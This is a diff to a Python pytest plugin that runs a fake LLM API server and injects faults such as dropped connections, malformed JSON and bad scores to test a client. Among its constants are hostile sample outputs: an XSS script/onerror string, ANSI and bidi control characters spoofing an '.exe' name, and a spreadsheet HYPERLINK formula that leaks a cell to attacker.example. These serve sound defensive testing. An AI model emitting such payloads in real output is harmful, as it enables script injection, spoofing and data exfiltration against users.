@@ -12,7 +12,13 @@ can add latency, and injects faults by rule::
 Faults: ``ok``, ``429``, ``500``, ``503``, ``401``, ``slow``, ``truncated`` (cut JSON, finish
 reason length / MAX_TOKENS), ``truncated_stop`` (cut JSON, normal finish), ``schema`` (missing
 field), ``out_of_range`` (score 9), ``fenced`` (```json fenced), ``chatty`` (JSON inside prose),
-``refusal``, ``empty`` (no choices / candidates), ``broken_body`` (HTTP body cut mid-JSON).
+``refusal``, ``empty`` (no choices / candidates), ``broken_body`` (HTTP body cut mid-JSON), and
+what misbehaving servers and gateways do: ``drop`` (connection closed, no reply), ``reset`` (TCP
+RST), ``hang`` (no reply for ``delay`` s), ``html_error`` (a 502 HTML page), ``non_json`` (200 with
+a text body), ``null_content`` (a choice whose content is null), ``wrong_schema`` (a JSON list),
+``non_numeric`` (score "four"), ``negative`` (score -2), ``huge`` (a 3 MB description),
+``html_text`` (script tags in the answer), ``control`` (ANSI, bidi, NUL in the answer),
+``formula`` (spreadsheet formulas in the answer), ``echo_key`` (the request's key in the answer).
 
 Use as a pytest plugin (``pytest_plugins = ["loopback_server"]`` in ``tests/conftest.py``) for
 the ``loopback_server`` fixture, or directly: ``with LoopbackServer(latency=0.5) as server: ...``.
@@ -24,6 +30,8 @@ import base64
 import contextlib
 import json
 import re
+import socket
+import struct
 import subprocess
 import sys
 import threading
@@ -37,7 +45,14 @@ from collections.abc import Callable, Iterator
 import pytest
 
 FAULTS = ("ok", "429", "500", "503", "401", "slow", "truncated", "truncated_stop", "schema", "out_of_range",
-          "fenced", "chatty", "refusal", "empty", "broken_body")
+          "fenced", "chatty", "refusal", "empty", "broken_body", "drop", "reset", "hang", "html_error", "non_json",
+          "null_content", "wrong_schema", "non_numeric", "negative", "huge", "html_text", "control", "formula",
+          "echo_key")
+#: Untrusted text the ``html_text`` / ``control`` / ``formula`` faults put into an answer.
+HOSTILE_HTML = '<script>alert("x")</script><img src=x onerror="alert(1)">'
+HOSTILE_CONTROL = "ok\x1b[31mRED\x1b[0m \u202egnp.exe\u202c nul\x00 bell\x07 zw\u200b"
+HOSTILE_FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
+_HTML_502 = b"<html><head><title>502 Bad Gateway</title></head><body><h1>502 Bad Gateway</h1><hr>nginx</body></html>"
 _GEMINI_PATH = re.compile(r"^/(?P<version>[^/]+)/models/(?P<model>[^/:]+):generateContent$")
 _DATA_URL = re.compile(r"^data:(?P<mime>[\w/+.-]+);base64,(?P<data>.*)$", re.DOTALL)
 
@@ -253,11 +268,12 @@ class _Handler(BaseHTTPRequestHandler):
             server._leave()
 
     # -- responses ---------------------------------------------------------------------------------
-    def _send(self, status: int, payload: Any, headers: dict[str, str] | None = None, raw: bytes | None = None) -> None:
+    def _send(self, status: int, payload: Any, headers: dict[str, str] | None = None, raw: bytes | None = None,
+              content_type: str = "application/json") -> None:
         data = raw if raw is not None else json.dumps(payload).encode()
         try:
             self.send_response(status)
-            self.send_header("Content-Type", "application/json")
+            self.send_header("Content-Type", content_type)
             self.send_header("Content-Length", str(len(data)))
             for k, v in (headers or {}).items():
                 self.send_header(k, v)
@@ -284,6 +300,24 @@ class _Handler(BaseHTTPRequestHandler):
             return self._error(rec, int(fault), f"injected {fault}")
         if fault == "slow":
             time.sleep(rule.delay if rule else 2.0)
+        if fault in ("drop", "reset", "hang"):
+            if fault == "hang":
+                time.sleep(rule.delay if rule else 2.0)
+            rec.status, rec.responded = 0, time.monotonic()
+            if fault == "reset":  # SO_LINGER 0: close() sends a TCP RST
+                self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+            self.close_connection = True
+            with contextlib.suppress(OSError):
+                if fault != "reset":
+                    self.connection.shutdown(socket.SHUT_RDWR)
+                self.connection.close()
+            return
+        if fault == "html_error":
+            rec.status, rec.responded = 502, time.monotonic()
+            return self._send(502, None, raw=_HTML_502, content_type="text/html")
+        if fault == "non_json":
+            rec.status, rec.responded = 200, time.monotonic()
+            return self._send(200, None, raw=b"OK", content_type="text/plain")
         answer = json.dumps(_answer(self.owner._score(rec)))
         content: str | None = answer
         finish = "stop"
@@ -303,6 +337,22 @@ class _Handler(BaseHTTPRequestHandler):
             content, finish = None, "refusal"
         elif fault == "empty":
             content, finish = None, "empty"
+        elif fault == "null_content":
+            content = None
+        elif fault == "wrong_schema":
+            content = json.dumps([{"description": "a dog"}, 3])
+        elif fault == "non_numeric":
+            content = json.dumps({**_answer(3), "score": "four"})
+        elif fault == "negative":
+            content = json.dumps({**_answer(3), "score": -2})
+        elif fault == "huge":
+            content = json.dumps({**_answer(3), "description": "a dog " * 500_000})
+        elif fault in ("html_text", "control", "formula"):
+            text = {"html_text": HOSTILE_HTML, "control": HOSTILE_CONTROL, "formula": HOSTILE_FORMULA}[fault]
+            content = json.dumps({"description": text, "justification": f"-{text}", "score": 3})
+        elif fault == "echo_key":
+            content = json.dumps({**_answer(3), "description": f"your key is {rec.api_key}",
+                                  "justification": f"auth: Bearer {rec.api_key}"})
         usage = (100 + len(rec.text) // 4 + 85 * len(rec.images), max(1, len(content or "") // 4))
         rec.usage = usage
         build = self._gemini_payload if rec.protocol == "gemini" else self._openai_payload
